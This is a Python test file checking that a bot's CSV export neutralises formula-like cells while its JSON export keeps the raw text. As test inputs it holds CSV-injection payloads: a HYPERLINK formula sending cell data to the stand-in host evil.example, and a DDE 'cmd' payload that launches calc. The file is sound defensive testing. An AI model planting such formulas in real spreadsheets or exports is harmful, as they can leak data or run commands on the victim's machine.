"""``entraide export``: CSV cells a spreadsheet would run as formulas are neutralised; JSON keeps the text."""

from __future__ import annotations

import csv
import io
import json

from bot.export import community_knowledge, to_csv, to_json
from tests.conftest import START

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


async def exported(community) -> list[dict]:
    async with community.store.transaction() as tx:
        return [await community_knowledge(tx, community.id)]


async def test_csv_cells_that_start_like_a_formula_are_neutralised_json_keeps_them(community):
    card = await community.ask("alice", f"{FORMULA} | +cmd|' /C calc'!A0")
    await community.reply("bob", card, "-2+3")
    await community.reply("carol", card, "@SUM(1+1)")
    await community.command("alice", "share", "https://example.com/x =1+1")
    communities = await exported(community)

    rows = list(csv.DictReader(io.StringIO(to_csv(communities))))
    question, *answers, resource = rows
    assert question["title"] == "'" + FORMULA
    assert question["text"] == "'+cmd|' /C calc'!A0"
    assert [a["text"] for a in answers] == ["'-2+3", "'@SUM(1+1)"]
    assert resource["notes"] == "'=1+1"
    assert question["community"] == "team" and resource["url"] == "https://example.com/x"

    document = json.loads(to_json(communities, START))
    [q] = document["communities"][0]["questions"]
    assert q["title"] == FORMULA and q["answers"][0]["text"] == "-2+3"


def test_csv_cells_that_start_with_a_tab_or_carriage_return_are_neutralised():
    share = {"id": 1, "created_at": None, "author": "bob", "prompt_id": None, "text": "\t=1+1"}
    empty = {"id": "team", "questions": [], "resources": []}
    rows = list(
        csv.DictReader(
            io.StringIO(to_csv([empty | {"practice_shares": [share, share | {"text": "\r@cmd"}]}]))
        )
    )
    assert [row["text"] for row in rows] == ["'\t=1+1", "'\r@cmd"]
